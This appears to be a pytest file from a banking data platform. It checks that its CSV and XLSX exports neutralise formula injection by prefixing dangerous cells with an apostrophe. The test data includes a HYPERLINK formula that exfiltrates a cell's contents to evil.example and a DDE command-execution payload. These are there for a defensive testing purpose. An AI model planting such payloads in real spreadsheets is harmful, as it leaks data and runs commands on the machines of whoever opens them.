"""Every CSV and XLSX the platform writes neutralises cells a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.audit import services as audit
from app.auth.models import Role
from app.extensions import db
from app.spreadsheets import csv_bytes, safe_cell, xlsx_bytes
from tests.ingest.conftest import csv_text
from tests.ingest.test_web import HEADER, _upload

# The payload: a live link that sends the neighbouring cell to another site.
PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (PAYLOAD, "'" + PAYLOAD),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12.50", "-12.50"),  # only a number: nothing to run
        ("+86", "+86"),
        ("西安观察银行", "西安观察银行"),
        ("a=b", "a=b"),
        ("", ""),
        (Decimal("-3.20"), Decimal("-3.20")),
        (-7, -7),
        (None, None),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_csv_and_xlsx_read_back_as_text(tmp_path: Path):
    rows = [[PAYLOAD, Decimal("-5.00"), "@x"]]
    assert _csv_rows(csv_bytes(["a", "b", "c"], rows))[1] == ["'" + PAYLOAD, "-5.00", "'@x"]
    path = tmp_path / "x.xlsx"
    path.write_bytes(xlsx_bytes("表", ["a", "b", "c"], rows))
    sheet = load_workbook(path).active
    cells = next(sheet.iter_rows(min_row=2))
    assert cells[0].data_type == "s" and cells[0].value == "'" + PAYLOAD  # not a formula
    assert cells[1].data_type == "n" and cells[1].value == -5
    assert cells[2].value == "'@x"


def test_access_log_csv_neutralises_an_officers_display_name(app, factories):
    """The bank's administrator picks the officer's name; the enterprise opens the file."""
    from tests.conftest import WebClient

    officer = factories.user(Role.BANK_OFFICER)
    officer.display_name = PAYLOAD
    owner = factories.user(Role.ENTERPRISE)
    audit.append(user_id=officer.id, bank_id=officer.bank_id, enterprise_id=owner.enterprise_id,
                 endpoint="/x", channel="web", outcome="denied", purpose="@evil()")  # fmt: skip
    db.session.commit()
    client = WebClient(app.test_client())
    client.login(owner)
    rows = _csv_rows(client.get("/enterprise/access-log.csv").data)
    assert rows[1][2] == "'" + PAYLOAD
    assert rows[1][5] == "'@evil()"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_rejections_csv_neutralises_a_rejected_value(login_as, factories):
    client, _admin = login_as("admin")
    rows = [[factories.uscc(), "一号公司", "2020-01-01", PAYLOAD, "C"]]
    response = _upload(client, "enterprises", "e.csv", csv_text(HEADER, rows).encode("utf-8-sig"))
    batch_url = response.headers["Location"]
    batch_id = re.search(r"/batches/(\d+)", batch_url).group(1)
    got = _csv_rows(client.get(f"/admin/ingest/batches/{batch_id}/rejections.csv").data)
    assert got[0] == ["row", "column", "code", "value", "reason_zh", "reason_en"]
    values = [row[3] for row in got[1:]]
    assert "'" + PAYLOAD in values
    assert PAYLOAD not in values


# Files that still write spreadsheets themselves (owned by another change under way).
_PENDING = {"app/stats/routes.py"}


def test_no_other_spreadsheet_writer_in_the_app():
    """csv.writer / DictWriter / openpyxl workbooks / pandas writers only in app/spreadsheets.py."""
    root = Path(__file__).resolve().parents[2]
    pattern = re.compile(r"csv\.writer|DictWriter|Workbook\(|to_csv|to_excel")
    offenders = {
        str(path.relative_to(root))
        for path in (root / "app").rglob("*.py")
        if pattern.search(path.read_text(encoding="utf-8"))
    }
    assert offenders - _PENDING == {"app/spreadsheets.py"}
